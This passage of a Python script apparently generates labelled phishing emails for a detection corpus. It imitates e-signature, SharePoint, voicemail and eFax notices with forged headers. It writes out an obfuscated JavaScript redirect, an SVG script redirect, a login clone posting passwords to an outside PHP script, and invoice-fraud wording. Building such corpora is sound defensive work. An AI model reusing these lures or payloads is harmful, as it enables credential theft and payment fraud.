             "Cloudflare R2 bucket (pub-*.r2.dev) hosting a Microsoft 365 credential page with the address in the fragment.",
             "us", utc(2025, 3, 4, 16, 22, 40), rcpt)
    p = ses_block(m, "esign-docusign-notice.com")
    link = f"https://pub-{hx(m.stem + 'r2', 32)}.r2.dev/dsign/index.html#{b64url_text(rcpt)}"
    code = HX(m.stem + "code", 32)
    html = docusign_html(sender="Samantha Oyelaran", sender_email=f"samantha.oyelaran@{US}",
                         title="Brackenridge_Distributor_Agreement_2025.pdf",
                         message="Hi Nicole,<br><br>Please review and sign the updated distributor agreement for the Midwest "
                                 "region before Friday. Pricing schedule B has changed.<br><br>Thanks,<br>Samantha",
                         link=link, code=code, report=link)
    plain = (f"Samantha Oyelaran sent you a document to review and sign.\n\nREVIEW DOCUMENT <{link}>\n\n"
             f"Samantha Oyelaran\nsamantha.oyelaran@{US}\n\nHi Nicole,\n\nPlease review and sign the updated distributor "
             "agreement for the Midwest region before Friday. Pricing schedule B has changed.\n\nThanks,\nSamantha\n\n"
             "Do Not Share This Email\nThis email contains a secure link to Docusign. Please do not share this email, "
             "link, or access code with others.\n")
    hdr = f"""From: "Samantha Oyelaran via Docusign" <dse@esign-docusign-notice.com>
Reply-To: "Samantha Oyelaran" <dse@esign-docusign-notice.com>
To: "Nicole Brandt" <{rcpt}>
Subject: Complete with Docusign: Brackenridge_Distributor_Agreement_2025.pdf
Message-ID: {p['msgid']}
Date: {fmt(p['sent'])}
MIME-Version: 1.0"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(m.stem, "java"))))


def docusign_genuine_block(m: Mail, pod: str) -> dict:
    s = m.stem
    sent = m.sent(1)
    hosts = {"NA3": ("mailsea.docusign.net", "64.207.219.{}"), "NA4": ("mailch.docusign.net", "64.207.216.{}")}
    host, ipfmt = hosts[pod]
    ip = ipfmt.format(num(s + "dsip", 8, 140))
    pre = dkim("docusign.net", "mail", "From:Subject:Date:Message-ID:To:MIME-Version:Content-Type:Reply-To", s + "ds",
               t=ts(sent), style="space") + "\n" + fold(
        f"Received: from docusign.net ({host.replace('mail', 'ds' + pod.lower() + '-', 1)}) by {host} (10.120.{num(s + 'in3', 1, 30)}.{num(s + 'in4', 2, 250)}) "
        f"with Microsoft SMTP Server id 15.1.2507.{num(s + 'ex', 30, 60)}; {fmt(sent, pt_off(sent)[0])}")
    return dict(ip=ip, helo=host, mailfrom="docusign.net", spf="pass", dkim_res="pass", dkim_d="docusign.net",
                dmarc="pass", tls="TLS1_2", pre=pre, sent=sent, msgid=f"<{hx(s + 'dsid', 32)}@docusign.net>",
                return_path=f"<dse_{pod}@docusign.net>")


def docusign_link(pod: str, seed: str) -> str:
    return (f"https://{pod.lower()}.docusign.net/Signing/EmailStart.aspx?a={guid(seed + 'a')}&etti=24&acct={guid(seed + 'acct')}"
            f"&er={guid(seed + 'er')}")


def a05_docusign_genuine_callback():
    rcpt = f"teresa.gullickson@{US}"
    m = Mail("phish-docusign-genuine-invoice-callback", "phishing",
             "Genuine DocuSign envelope (dse_NA4@docusign.net, passes authentication) sent from an attacker's own DocuSign "
             "account named after the packaging supplier; the envelope note announces 'updated remittance details' and a "
             "phone number for accounts receivable, an invoice-fraud and callback set-up riding on a real service.",
             "us", utc(2025, 5, 13, 13, 47, 2), rcpt)
    p = docusign_genuine_block(m, "NA4")
    link = docusign_link("NA4", m.stem)
    code = HX(m.stem + "code", 32)
    report = f"https://protect.docusign.net/report-abuse?e=AUtomjpPT0{alnum(m.stem + 'rep', 80)}&lang=en"
    msg = ("Dear Accounts Payable,<br><br>Please review and sign the attached Payment Authorization for invoice "
           "INV-2025-0413 in the amount of $48,260.00.<br><br>Please note that our remittance details were updated "
           "following our annual banking review. The new ACH details are on page 2 of the authorization. For questions "
           "please call our Accounts Receivable desk at +1 (937) 555-0148 (Mon-Fri 8am-5pm EST).<br><br>"
           "Regards,<br>Ardent Packaging Billing Dept")
    html = docusign_html(sender="Ardent Packaging Billing Dept", sender_email="billing.ardentpackaging@gmail.com",
                         title="INV-2025-0413 Payment Authorization", message=msg, link=link, code=code, report=report,
                         pixel=f'<img src="https://na4.docusign.net/Member/Images/email/pixel.gif?e={alnum(m.stem + "px", 40)}" width="1" height="1" alt="">')
    plain = (f"Ardent Packaging Billing Dept sent you a document to review and sign.\n\nREVIEW DOCUMENT <{link}>\n\n"
             "Ardent Packaging Billing Dept\nbilling.ardentpackaging@gmail.com\n\n"
             + msg.replace("<br>", "\n") + f"\n\nDo Not Share This Email\nThis email contains a secure link to Docusign. "
             f"Please do not share this email, link, or access code with others.\n\nAlternate Signing Method\nVisit "
             f"Docusign.com, click 'Access Documents', and enter the security code:\n{code}\n")
    hdr = f"""Reply-To: Ardent Packaging Billing Dept <billing.ardentpackaging@gmail.com>
From: Ardent Packaging Billing Dept via Docusign <dse_NA4@docusign.net>
To: Teresa Gullickson <{rcpt}>
Message-ID: {p['msgid']}
Date: {fmt(p['sent'], pt_off(p['sent'])[0])}
Subject: Complete with Docusign: INV-2025-0413 Payment Authorization
MIME-Version: 1.0"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(m.stem, "java"))))


def a06_adobesign_ipfs():
    rcpt = f"priya.raman@{US}"
    m = Mail("phish-adobesign-ipfs-remittance", "phishing",
             "Adobe Acrobat Sign look-alike 'remittance advice' sent from a compromised GoDaddy webmail account of a civil "
             "engineering firm (SPF passes, no DKIM); the 'Review and sign' button opens an IPFS gateway page "
             "(*.ipfs.dweb.link) with a Microsoft 365 login form.",
             "us", utc(2025, 6, 3, 18, 5, 31), rcpt)
    s = m.stem
    sent = m.sent(2)
    ip = f"173.201.193.{num(s + 'gd', 40, 120)}"
    host = f"p3plwbeout{num(s + 'gdh', 10, 27)}-0{num(s + 'gdh2', 1, 9)}.prod.phx3.secureserver.net"
    pre = "\n".join([
        fold(f"Received: from p3plgemwbe{num(s + 'gw', 10, 27)}-0{num(s + 'gw2', 1, 9)}.prod.phx3.secureserver.net ([10.199.{num(s + 'gw3', 1, 30)}.{num(s + 'gw4', 2, 250)}]) "
             f"by {host} with SMTP; {fmt(sent, -7)}"),
        "X-Sender: controller@tristatecivil.com",
        "X-Originating-IP: 102.89." + f"{num(s + 'oip', 1, 250)}.{num(s + 'oip2', 1, 250)}",
    ])
    p = dict(ip=ip, helo=host, mailfrom="tristatecivil.com", spf="pass", dkim_res="none", hfrom="tristatecivil.com",
             dmarc="bestguesspass", tls="TLS1_2", pre=pre, sent=sent, ctry="US",
             return_path="<controller@tristatecivil.com>")
    link = f"https://bafybei{lower_alnum(s + 'cid', 52)}.ipfs.dweb.link/adbsign.html?filename=remittance.html#{rcpt}"
    html = f"""<html><body style="margin:0;padding:0;background:#f5f5f5">
<center><table width="600" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;font-family:adobe-clean,'Source Sans Pro',Arial,sans-serif;margin-top:24px">
<tr><td style="padding:22px 30px;border-bottom:3px solid #eb1000"><img src="https://secure.na1.adobesign.com/images/email/adobe-acrobat-sign-logo.png" alt="Adobe Acrobat Sign" height="30"></td></tr>
<tr><td style="padding:30px 30px 10px 30px;font-size:22px;color:#2c2c2c">Tri-State Civil Group has sent you<br><b>Remittance_Advice_PO-77214.pdf</b> to review and sign.</td></tr>
<tr><td style="padding:10px 30px;font-size:14px;color:#4b4b4b;line-height:21px">Please review the remittance advice for the May payment run and acknowledge receipt.
This document will expire in 48 hours.</td></tr>
<tr><td style="padding:18px 30px 30px 30px"><a href="{link}" style="background:#1473e6;color:#ffffff;font-size:15px;font-weight:bold;padding:12px 26px;border-radius:18px;text-decoration:none;display:inline-block">Review and sign</a></td></tr>
<tr><td style="padding:14px 30px;font-size:11px;color:#888888;border-top:1px solid #e1e1e1">To ensure that you continue receiving our emails, please add adobesign@adobesign.com to your address book or safe list.<br>
&copy; 2025 Adobe. All rights reserved. Adobe, 345 Park Avenue, San Jose, CA 95110-2704</td></tr>
</table></center></body></html>"""
    plain = ("Tri-State Civil Group has sent you Remittance_Advice_PO-77214.pdf to review and sign.\n\n"
             "Please review the remittance advice for the May payment run and acknowledge receipt. This document will "
             f"expire in 48 hours.\n\nReview and sign: {link}\n\n(c) 2025 Adobe. All rights reserved.\n")
    hdr = f"""MIME-Version: 1.0
Date: {fmt(sent, -7)}
From: Adobe Acrobat Sign <controller@tristatecivil.com>
To: {rcpt}
Subject: Tri-State Civil Group sent you Remittance_Advice_PO-77214.pdf for signature
User-Agent: Workspace Webmail 6.16.7
Message-ID: <{hx(s + 'gdid', 20)}.{hx(s + 'gdid2', 8)}@tristatecivil.com>
X-Sender: controller@tristatecivil.com"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(m.stem, "eq"), enc="quoted-printable")))


def a07_dropboxsign_wordpress():
    rcpt = f"dana.whitfield@{US}"
    m = Mail("phish-dropboxsign-salary-wordpress", "phishing",
             "Dropbox Sign look-alike 'salary adjustment letter' signature request that names the HR director, mailed by "
             "PHPMailer from a hacked WordPress bakery site on a Namecheap shared host (DKIM for the bakery's domain "
             "passes); the link leads to a credential page in the same site's wp-content/uploads folder.",
             "us", utc(2025, 7, 15, 20, 31, 12), rcpt)
    s = m.stem
    server = "server214.web-hosting.com"
    p = cpanel_block(m, "lakeshorebakeryco.com", "lakeshor", server, "198.54.115.214", "", phpmailer=True)
    p["hfrom"] = "lakeshorebakeryco.com"
    link = f"https://lakeshorebakeryco.com/wp-content/uploads/2025/07/sign/?doc={hx(s + 'doc', 24)}&u={b64url_text(rcpt)}"
    html = f"""<!DOCTYPE html><html><head><meta charset="UTF-8"><title>Dropbox Sign</title></head>
<body style="background:#f7f5f2;margin:0;padding:0">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:32px 8px">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:'Helvetica Neue',Helvetica,Arial,sans-serif;color:#1e1919">
<tr><td style="padding:28px 36px 8px 36px"><img src="https://cfl.dropboxstatic.com/static/images/logo_catalog/dropbox_sign_logo_m1.png" alt="Dropbox Sign" height="28"></td></tr>
<tr><td style="padding:18px 36px 6px 36px;font-size:22px;line-height:30px"><b>Lauren Bischoff</b> has requested your signature on<br>"2025 Mid-Year Salary Adjustment - Dana Whitfield"</td></tr>
<tr><td style="padding:12px 36px;font-size:15px;line-height:22px;color:#52504d">Message from Lauren Bischoff:<br><i>"Dana, please review your revised compensation letter and sign by end of day Thursday so payroll can apply it to the August 1 cycle."</i></td></tr>
<tr><td style="padding:20px 36px 34px 36px"><a href="{link}" style="background:#0061fe;color:#ffffff;font-size:16px;padding:13px 28px;text-decoration:none;border-radius:4px;display:inline-block">Review &amp; sign</a></td></tr>
<tr><td style="padding:16px 36px 28px 36px;font-size:12px;color:#736c64;border-top:1px solid #e6e1da">This request was sent through Dropbox Sign. Dropbox, Inc., 1800 Owens St, San Francisco, CA 94158</td></tr>
</table></td></tr></table></body></html>"""
    plain = ('Lauren Bischoff has requested your signature on "2025 Mid-Year Salary Adjustment - Dana Whitfield"\n\n'
             'Message from Lauren Bischoff: "Dana, please review your revised compensation letter and sign by end of day '
             f'Thursday so payroll can apply it to the August 1 cycle."\n\nReview & sign: {link}\n')
    subj = 'Lauren Bischoff has requested your signature on "2025 Mid-Year Salary Adjustment - Dana Whitfield"'
    hdr = f"""Date: {fmt(p['sent'], -4)}
To: {rcpt}
From: Dropbox Sign <noreply@lakeshorebakeryco.com>
Subject: {subj}
Message-ID: <{alnum(s + 'pm', 43)}@lakeshorebakeryco.com>
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(m.stem, "php"), enc="8bit")))


def sharepoint_share_html(sharer: str, initials: str, item: str, note: str, link: str, kind: str, tenant_name: str) -> str:
    icon = {"pdf": "pdf", "onenote": "one", "xlsx": "xlsx", "folder": "folder", "docx": "docx"}[kind]
    note_html = (f'<tr><td style="padding:0 0 20px 0;font-size:14px;color:#323130">"{note}"</td></tr>' if note else "")
    return f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1.0"></head>
<body style="margin:0;padding:0">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff"><tr><td align="center">
<table role="presentation" cellpadding="0" cellspacing="0" border="0" style="max-width:488px;width:100%;font-family:'Segoe UI','Segoe UI Web (West European)',-apple-system,BlinkMacSystemFont,Roboto,'Helvetica Neue',sans-serif">
<tr><td style="padding:32px 24px 24px 24px">
<table role="presentation" cellpadding="0" cellspacing="0" border="0"><tr><td style="width:40px;height:40px;border-radius:50%;background:#8764b8;color:#ffffff;font-size:16px;text-align:center;vertical-align:middle">{initials}</td>
<td style="padding-left:12px;font-size:21px;color:#242424;font-weight:600">{sharer} shared {"a folder" if kind == "folder" else "a file"} with you</td></tr></table></td></tr>
<tr><td style="padding:0 24px">
<table role="presentation" cellpadding="0" cellspacing="0" border="0" width="100%">{note_html}
<tr><td style="border:1px solid #e1dfdd;border-radius:4px;padding:14px 16px">
<table role="presentation" cellpadding="0" cellspacing="0" border="0"><tr><td><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/assets/item-types/48/{icon}.png" width="32" height="32" alt=""></td>
<td style="padding-left:12px;font-size:14px;color:#242424;font-weight:600">{item}</td></tr></table></td></tr>
<tr><td style="padding:20px 0 8px 0"><a href="{link}" style="background:#0f6cbd;color:#ffffff;font-size:14px;font-weight:600;text-decoration:none;padding:8px 20px;border-radius:4px;display:inline-block">Open</a></td></tr>
<tr><td style="padding:18px 0 0 0;font-size:12px;color:#616161">This link only works for the direct recipients of this message.</td></tr>
</table></td></tr>
<tr><td style="padding:32px 24px 24px 24px;font-size:12px;color:#616161"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/assets/brand-icons/product/png/sharepoint_48x1.png" width="16" height="16" alt="" style="vertical-align:middle"> SharePoint &nbsp;|&nbsp; {tenant_name}<br><br>
<a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#616161">Privacy Statement</a><br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr>
</table></td></tr></table></body></html>"""


def a08_sharepoint_partner_genuine():
    rcpt = f"kevin.dobbs@{US}"
    m = Mail("phish-sharepoint-partner-genuine-onenote", "phishing",
             "Genuine SharePoint Online sharing notification (no-reply@sharepointonline.com, passes) triggered from a "
             "compromised account at a mechanical contractor the company works with; the shared OneNote 'proposal' on "
             "the partner's OneDrive carries a 'view document' link to an AiTM Microsoft 365 page, so nothing in the "
             "mail itself is forged.",
             "us", utc(2025, 8, 19, 19, 16, 44), rcpt)
    p = exo_sender_block(m, domain="sharepointonline.com", sender="no-reply@sharepointonline.com",
                         dkim_d="sharepointonline.com")
    s = m.stem
    link = (f"https://ridgelinemech-my.sharepoint.com/:o:/g/personal/curtis_langley_ridgelinemech_com/"
            f"E{alnum(s + 'sp', 45)}?e={alnum(s + 'e', 6)}")
    html = sharepoint_share_html("Curtis Langley", "CL", "Ridgeline - Brackenridge Project Proposal",
                                 "Kevin, please review the attached proposal for the Plant 2 chiller replacement and let me know your thoughts.",
                                 link, "onenote", "Ridgeline Mechanical Contractors")
    plain = (f"Curtis Langley shared a file with you\n\n\"Kevin, please review the attached proposal for the Plant 2 chiller "
             f"replacement and let me know your thoughts.\"\n\nRidgeline - Brackenridge Project Proposal\n\nOpen <{link}>\n\n"
             "This link only works for the direct recipients of this message.\n\nPrivacy Statement "
             "<https://go.microsoft.com/fwlink/?LinkId=521839>\nMicrosoft Corporation, One Microsoft Way, Redmond, WA 98052\n")
    hdr = f"""From: Curtis Langley <no-reply@sharepointonline.com>
To: <{rcpt}>
Reply-To: <curtis.langley@ridgelinemech.com>
Subject: Curtis Langley shared "Ridgeline - Brackenridge Project Proposal" with you
Date: {fmt(p['sent'])}
Message-ID: <{guid(s + 'odsp')}@odspnotify>
X-Sharing-Title: {enc('Ridgeline - Brackenridge Project Proposal')}
X-Sharing-Type: Document
X-Sharing-Item-Type: OneNote
X-Sharing-Tenant: ridgelinemech.sharepoint.com"""
    p["post"] = ""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(m.stem))))


def a09_onedrive_partner_pagesdev():
    rcpt = f"sophie.ashworth@{UK}"
    m = Mail("phish-onedrive-partner-mailbox-pagesdev", "phishing",
             "Hand-made OneDrive 'shared a file' notice sent directly from a compromised mailbox at a UK engineering "
             "supplier (its Exchange Online tenant signs and passes DMARC); 'Open' goes to a Cloudflare Pages site "
             "(pages.dev) that imitates the Microsoft sign-in behind a Turnstile check.",
             "uk", utc(2025, 9, 2, 10, 3, 19), rcpt)
    p = exo_sender_block(m, domain="caldervalleyeng.co.uk", sender="m.greaves@caldervalleyeng.co.uk", region="uk")
    s = m.stem
    link = f"https://cve-docshare-7k2.pages.dev/?e={b64url_text(rcpt)}&id={hx(s + 'id', 10)}"
    inner = f"""<div style="font-family:Aptos,Aptos_EmbeddedFont,Aptos_MSFontService,Calibri,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0)">
<table style="max-width:480px;font-family:'Segoe UI',Arial,sans-serif" cellpadding="0" cellspacing="0">
<tr><td style="padding:20px 0 14px 0;font-size:20px;color:#242424">Martin Greaves shared a file with you</td></tr>
<tr><td style="padding:0 0 16px 0;font-size:14px">Hi Sophie, please see our Q3 remittance and statement attached for your records.</td></tr>
<tr><td style="border:1px solid #e1dfdd;padding:12px 14px;font-size:14px;font-weight:600"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/assets/item-types/20/pdf.png" width="20" height="20" style="vertical-align:middle" alt=""> Calder Valley Engineering - Remittance &amp; Statement Q3.pdf</td></tr>
<tr><td style="padding:18px 0"><a href="{link}" style="background:#0f6cbd;color:#ffffff;font-size:14px;text-decoration:none;padding:8px 22px;border-radius:4px">Open</a></td></tr>
<tr><td style="font-size:11px;color:#616161">This link will work for anyone in Brackenridge Fluid Systems UK Ltd.<br><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/assets/brand-icons/product/png/onedrive_16x1.png" alt=""> Microsoft OneDrive</td></tr>
</table><br>
<div>Kind regards</div><div>Martin Greaves<br>Accounts Manager | Calder Valley Engineering Ltd<br>Unit 4, Mytholm Works, Hebden Bridge HX7 6DL<br>T: 01422 555 0184</div>
</div>"""
    plain = ("Martin Greaves shared a file with you\n\nHi Sophie, please see our Q3 remittance and statement attached for "
             "your records.\n\nCalder Valley Engineering - Remittance & Statement Q3.pdf\n\n"
             f"Open<{link}>\n\nThis link will work for anyone in Brackenridge Fluid Systems UK Ltd.\nMicrosoft OneDrive\n\n"
             "Kind regards\nMartin Greaves\nAccounts Manager | Calder Valley Engineering Ltd\nUnit 4, Mytholm Works, "
             "Hebden Bridge HX7 6DL\nT: 01422 555 0184\n")
    p["post"] = p["post"].replace("en-US", "en-GB")
    hdr = f"""From: Martin Greaves <m.greaves@caldervalleyeng.co.uk>
To: Sophie Ashworth <{rcpt}>
Subject: Martin Greaves shared "Remittance & Statement Q3" with you
Thread-Topic: Martin Greaves shared "Remittance & Statement Q3" with you
Thread-Index: {thread_index(s)}
Date: {fmt(p['sent'])}
Message-ID: {p['msgid']}"""
    p["ctry"] = "GB"
    add(m, emit_parts(m, p, hdr, alt(plain, owa_html(inner), bnd(s))))


def a10_voicemail_htm():
    rcpt = f"tyler.greaves@{US}"
    m = Mail("phish-voicemail-htm-attachment", "phishing",
             "Voicemail-to-email imitation from the attacker-registered domain cloudpbx-notify.com (own Postfix server, "
             "SPF/DKIM pass) with an .htm 'playback' attachment whose obfuscated script redirects to a Microsoft 365 "
             "credential page with the recipient's address appended.",
             "us", utc(2025, 3, 26, 15, 48, 3), rcpt)
    s = m.stem
    p = postfix_block(m, "cloudpbx-notify.com", "mail.cloudpbx-notify.com", "45.61.137.88", client="127.0.0.1",
                      ptr="45-61-137-88.static.rdns.example-hosting.net")
    p["ptr"] = "vps-8c21d.hostwindsdns.com"
    p["ctry"] = "US"
    target = "https://audio-vm.shop/play/secure/"
    e = b64url_text(rcpt)
    payload = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Voice Message - Playback</title>
<meta name="robots" content="noindex,nofollow"></head>
<body style="background:#f3f2f1;font-family:Segoe UI,Arial">
<div id="x" style="margin:80px auto;width:340px;text-align:center;color:#605e5c">Loading secure audio player&hellip;</div>
<script>
var _0x1b7c=['\\x72\\x65\\x70\\x6c\\x61\\x63\\x65','\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e','\\x61\\x74\\x6f\\x62'];
(function(_0x3e,_0x9a){{var _0x21=function(_0x4d){{while(--_0x4d){{_0x3e['push'](_0x3e['shift']());}}}};_0x21(++_0x9a);}}(_0x1b7c,0x0));
var _0xe='{e}';
var _0xu='{base64.b64encode(target.encode()).decode()}';
setTimeout(function(){{window[_0x1b7c[1]][_0x1b7c[0]](window[_0x1b7c[2]](_0xu)+'#'+_0xe);}},900);
</script>
<noscript>Enable JavaScript to play this message.</noscript>
</body></html>
"""
    html = f"""<html><body style="font-family:Arial,Helvetica,sans-serif;font-size:13px;color:#333">
<table cellpadding="6" cellspacing="0" border="0" style="border:1px solid #d0d0d0;width:460px">
<tr><td colspan="2" style="background:#2b579a;color:#fff;font-size:15px;font-weight:bold">New Voice Message</td></tr>
<tr><td style="width:130px;color:#777">From:</td><td>+1 (614) 555-0198</td></tr>
<tr><td style="color:#777">To:</td><td>{rcpt}</td></tr>
<tr><td style="color:#777">Received:</td><td>Wednesday, March 26, 2025 11:47 AM</td></tr>
<tr><td style="color:#777">Duration:</td><td>00:47</td></tr>
<tr><td colspan="2" style="padding-top:12px">The voice message is attached. Download and open the attachment to listen.</td></tr>
</table><p style="font-size:11px;color:#999">Cloud PBX Voicemail Service</p></body></html>"""
    plain = (f"New Voice Message\n\nFrom: +1 (614) 555-0198\nTo: {rcpt}\nReceived: Wednesday, March 26, 2025 11:47 AM\n"
             "Duration: 00:47\n\nThe voice message is attached. Download and open the attachment to listen.\n\n"
             "Cloud PBX Voicemail Service\n")
    body = Multi("mixed", bnd(s, "hyph"), [
        alt(plain, html, bnd(s + "a", "hyph")),
        attachment("text/html", "VoiceMessage_+16145550198_0047s.htm", payload.encode()),
    ])
    hdr = f"""Date: {fmt(p['sent'])}
From: Voicemail Service <voicemail@cloudpbx-notify.com>
To: {rcpt}
Subject: New voice message from +1 (614) 555-0198 (00:47)
Message-ID: {p['msgid']}
MIME-Version: 1.0"""
    add(m, emit_parts(m, p, hdr, body))


def a11_voicemail_svg():
    rcpt = f"james.whitlock@{UK}"
    m = Mail("phish-voicemail-svg-attachment", "phishing",
             "Short voicemail notice from a compromised Google Workspace mailbox of a Harrogate haulage firm with an "
             "SVG 'audio message' attachment containing script that sends the browser to a credential-harvesting page "
             "with the recipient's address in base64.",
             "uk", utc(2025, 10, 7, 7, 52, 38), rcpt)
    s = m.stem
    p = google_sender_block(m, domain="harrogatehaulage.co.uk")
    target = "https://m365-vmail.eu-login.top/auth/?em="
    svg = f"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="420" height="120" viewBox="0 0 420 120">
<rect width="420" height="120" rx="8" fill="#f3f2f1"/>
<circle cx="50" cy="60" r="26" fill="#0078d4"/><polygon points="42,46 42,74 66,60" fill="#ffffff"/>
<text x="92" y="56" font-family="Segoe UI,Arial" font-size="17" fill="#323130">Voice message (00:32)</text>
<text x="92" y="80" font-family="Segoe UI,Arial" font-size="13" fill="#605e5c">+44 113 496 0731</text>
<script type="text/javascript"><![CDATA[
var _q=["{base64.b64encode(target.encode()).decode()}","{b64url_text(rcpt)}"];
var _d=document,_w=window;function _r(){{_w.location.href=atob(_q[0])+_q[1];}}
_w.setTimeout(_r,400);
]]></script>
</svg>
"""
    html = gmail_html(f"""<div>You have a new voicemail from <b>+44 113 496 0731</b> (0:32).</div><div><br></div>
<div>Play the attached audio message to listen.</div><div><br></div><div>Sent to: {rcpt}</div>""")
    plain = f"You have a new voicemail from *+44 113 496 0731* (0:32).\n\nPlay the attached audio message to listen.\n\nSent to: {rcpt}\n"
    body = Multi("mixed", bnd(s, "gmail"), [
        alt(plain, html, bnd(s + "a", "gmail")),
        Leaf("image/svg+xml", svg.encode(), "base64", '; name="Audio_Message_07Oct.svg"',
             'attachment; filename="Audio_Message_07Oct.svg"', [f"Content-ID: <f_{lower_alnum(s + 'cid', 11)}0>",
                                                               f"X-Attachment-Id: f_{lower_alnum(s + 'cid', 11)}0"]),
    ])
    hdr = f"""MIME-Version: 1.0
From: Voicemail <dispatch@harrogatehaulage.co.uk>
Date: {fmt(p['sent'], p['off'])}
Message-ID: {p['msgid']}
Subject: Voicemail received 07/10/2025 08:51 - 0:32
To: {rcpt}"""
    p["ctry"] = "GB"
    add(m, emit_parts(m, p, hdr, body))


def a12_fax_shtml():
    rcpt = f"keisha.holloway@{US}"
    m = Mail("phish-efax-shtml-login-form", "phishing",
             "eFax-style 'incoming fax' notice about payroll remittance from the look-alike domain "
             "efax-corporate-delivery.com sent via Mailgun; the .shtml attachment is a complete Microsoft 365 login page "
             "with the victim's address pre-filled that posts the password to a PHP script on a hacked WordPress site.",
             "us", utc(2025, 4, 22, 13, 9, 50), rcpt)
    s = m.stem
    p = mailgun_block(m, "efax-corporate-delivery.com")
    post_to = "https://www.greenfieldorchards.net/wp-includes/js/tinymce/skins/lightgray/fx/next.php"
    page = f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1.0">
<title>Sign in to your account</title>
<link rel="icon" href="https://aadcdn.msftauth.net/shared/1.0/content/images/favicon_a_eupayfgghqiai7k9sol6lg2.ico">
<style>body{{margin:0;background:#f2f2f2 url('https://aadcdn.msftauth.net/shared/1.0/content/images/backgrounds/2_bc3d32a696895f78c19df6c717586a5d.svg') center/cover;font-family:'Segoe UI',Arial,sans-serif}}
.box{{width:440px;margin:110px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}}
input[type=password],input[type=email]{{width:100%;border:none;border-bottom:1px solid #666;padding:6px 0;font-size:15px;margin:16px 0}}
.btn{{background:#0067b8;color:#fff;border:none;padding:8px 32px;float:right;font-size:15px}}
.fax{{background:#f3f3f3;padding:10px;font-size:13px;margin-bottom:14px}}</style></head>
<body><div class="box">
<img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg" width="108" alt="Microsoft">
<div class="fax">Secure fax document (3 pages) &mdash; sign in to view</div>
<form method="post" action="{post_to}" id="f">
<input type="email" name="login" value="{rcpt}" readonly>
<input type="password" name="passwd" placeholder="Password" required autofocus>
<input type="hidden" name="src" value="efx-{hx(s + 'src', 6)}">
<div style="font-size:13px;margin:6px 0 22px 0"><a href="#" style="color:#0067b8">Forgot my password</a></div>
<button class="btn" type="submit">Sign in</button><div style="clear:both"></div>
</form></div>
<script>document.getElementById('f').addEventListener('submit',function(){{document.querySelector('.btn').innerText='Verifying...';}});</script>
</body></html>
"""
    html = f"""<html><body style="font-family:Arial,Helvetica,sans-serif;background:#ffffff">
<table width="580" cellpadding="0" cellspacing="0" style="border:1px solid #ccc">
<tr><td style="background:#c8102e;padding:14px 20px;color:#fff;font-size:20px;font-weight:bold">eFax&reg;</td></tr>
<tr><td style="padding:20px;font-size:14px;color:#333;line-height:21px">You have received a 3 page fax at {fmt(m.when - timedelta(minutes=3), -4)[5:22]}.<br><br>
<b>Fax reference:</b> {num(s + 'ref', 10000000, 99999999)}<br><b>Caller ID:</b> 614-555-0126<br><b>Subject:</b> Payroll remittance &ndash; Q2 adjustments<br><br>
Your fax is attached to this email in secure format. Open the attachment to view the document.</td></tr>
<tr><td style="padding:12px 20px;font-size:11px;color:#888;border-top:1px solid #eee">Thank you for using the eFax service. &copy; 2025 Consensus Cloud Solutions, Inc.</td></tr>
</table></body></html>"""
    plain = (f"You have received a 3 page fax.\n\nFax reference: {num(s + 'ref', 10000000, 99999999)}\nCaller ID: 614-555-0126\n"
             "Subject: Payroll remittance - Q2 adjustments\n\nYour fax is attached to this email in secure format. "
             "Open the attachment to view the document.\n")
    body = Multi("mixed", bnd(s, "sg"), [
        alt(plain, html, bnd(s + "a", "sg")),
        attachment("text/html", f"eFax_{num(s + 'ref', 10000000, 99999999)}_3pg.shtml", page.encode()),
    ])
    hdr = f"""Sender: efax@efax-corporate-delivery.com
From: eFax <message@efax-corporate-delivery.com>
To: {rcpt}
Subject: eFax message from "614-555-0126" - 3 page(s), Caller-ID: 614-555-0126
Message-Id: {p['msgid']}
Date: {fmt(p['sent'])}
Mime-Version: 1.0"""
    add(m, emit_parts(m, p, hdr, body))


def a13_qr_pdf_mfa():
    rcpt = f"rachel.kim@{US}"
    m = Mail("phish-qr-pdf-mfa-reenrol", "phishing",
             "MFA re-enrolment demand from a newly created attacker Microsoft 365 tenant (brackenridgeit.onmicrosoft.com, "
             "passes authentication) with a one-page PDF whose QR code points to an Azure Web App hosting a Microsoft "
             "sign-in clone; the body has no link at all.",
             "us", utc(2025, 2, 25, 14, 26, 9), rcpt)
    s = m.stem
    p = exo_sender_block(m, domain="brackenridgeit.onmicrosoft.com", sender=f"admin@brackenridgeit.onmicrosoft.com",
                         has_attach=True)
    qr_url = f"https://mfa-reenroll-portal.azurewebsites.net/?tid=brackenridgefluid&u={b64url_text(rcpt)}"
    pdf = qr_pdf(["Brackenridge Fluid Systems - IT Security", "",
                  "Multi-Factor Authentication (MFA) Re-enrollment",
